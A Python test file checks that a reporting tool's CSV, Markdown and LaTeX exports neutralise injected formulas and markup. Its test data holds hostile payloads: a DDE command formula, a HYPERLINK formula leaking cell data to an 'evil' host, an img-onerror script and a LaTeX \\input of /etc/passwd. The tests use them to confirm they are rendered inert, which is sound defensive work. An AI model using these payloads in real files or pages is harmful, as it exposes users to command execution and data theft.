"""Exported tables: no text becomes a formula, a command or markup; numbers stay numbers, and files read back right."""

from __future__ import annotations

import csv
import dataclasses
import io
import math
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.commands import fusion as fusion_command
from app.pages import fusion_result
from core import compare_tables, sheets
from core.studio import Studio
from tests.support import seed

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1+1",
    "'=1",
    '=HYPERLINK("http://evil/?"&A1)',
    "-inf-1",
    "+1_000",
]
NUMBERS = ["-1", "+2.5", "-1e-9", "-inf", "3", "-.5"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_and_comes_back(text: str):
    assert sheets.inert(text) == f"'{text}" and sheets.plain(sheets.inert(text)) == text


@pytest.mark.parametrize("text", [*NUMBERS, "", "a=b", "plain", "it's", "1-2"])
def test_numbers_and_other_texts_stay(text: str):
    assert sheets.inert(text) == text and sheets.plain(text) == text
    assert sheets.inert(-1.5) == -1.5 and sheets.inert(None) is None


@given(
    st.lists(
        st.lists(
            st.text(st.characters(exclude_categories=["Cs"])) | st.floats(allow_nan=False), min_size=2, max_size=4
        ),
        min_size=1,
        max_size=4,
    )
)
@settings(max_examples=100, deadline=None)
def test_our_own_files_read_back_right(rows: list[list[str | float]]):
    told = list(csv.reader(io.StringIO(sheets.text(rows), newline="")))
    assert [[sheets.plain(cell) for cell in row] for row in told] == [[str(cell) for cell in row] for row in rows]
    assert all(sheets.inert(cell) == cell or sheets.plain(cell) != cell for row in told for cell in row)


def test_a_frame_keeps_its_numbers_and_loses_its_formulas():
    frame = pd.DataFrame({"=task": ["=1+1", "-2", None], "value": [-1.5, math.nan, 2.0], "n": [-1, 2, 3]})
    back = pd.read_csv(io.StringIO(sheets.of_frame(frame)))
    assert list(back.columns) == ["'=task", "value", "n"] and list(back["n"]) == [-1, 2, 3]
    assert list(back["'=task"][:2]) == ["'=1+1", "-2"] and back["value"][0] == -1.5
    assert list(frame.columns)[0] == "=task"


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def computed(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not sheets._is_number(cell)


EVIL = '=HYPERLINK("http://evil")|![x](http://evil)<img src=x onerror=alert(1)>\\input{/etc/passwd}$^~'


@pytest.fixture
def named(tmp_path: Path) -> tuple[Studio, list[str]]:
    found = seed.few(tmp_path / "home")
    studio = seed.QuietStudio(found.home)
    return studio, found.done


def test_every_export_of_a_comparison_is_inert(named: tuple[Studio, list[str]], tmp_path: Path):
    studio, runs = named
    comparison = studio.compare(runs, every_setting=True)
    columns = [dataclasses.replace(column, label=EVIL) for column in comparison.columns]
    rows = [dataclasses.replace(row, task=EVIL, metric="=1") for row in comparison.rows]
    comparison = dataclasses.replace(comparison, columns=columns, rows=rows)
    table = comparison.render("csv")
    assert EVIL in table.replace('""', '"') and not any(map(computed, cells(table)))
    markdown = comparison.render("markdown")
    assert "![" not in markdown.replace("\\!\\[", "") and "<img" not in markdown.replace("\\<img", "")
    latex = comparison.render("latex")
    assert "\\input" not in latex and "$^" not in latex
    [path] = studio.routing_files(runs[0], csv=tmp_path / "routing.csv")
    assert not any(map(computed, cells(path.read_text())))
    studio.close()


def test_the_tables_of_a_fusion_are_inert(tmp_path: Path):
    frame = pd.DataFrame({"task": EVIL, "metric": "accuracy", "own_run": "@x", "lost": [-0.25]})
    told = fusion_result.plain(frame)
    fusion_command._write(frame, tmp_path / "x.csv")
    for text in (told, (tmp_path / "x.csv").read_text()):
        assert not any(map(computed, cells(text))) and "-0.25" in cells(text)


def test_names_in_latex_and_markdown_are_what_they_were():
    assert compare_tables._escaped("a_b 50%") == r"a\_b 50\%"
    assert compare_tables._inert("a|b\nc") == r"a\|b c"
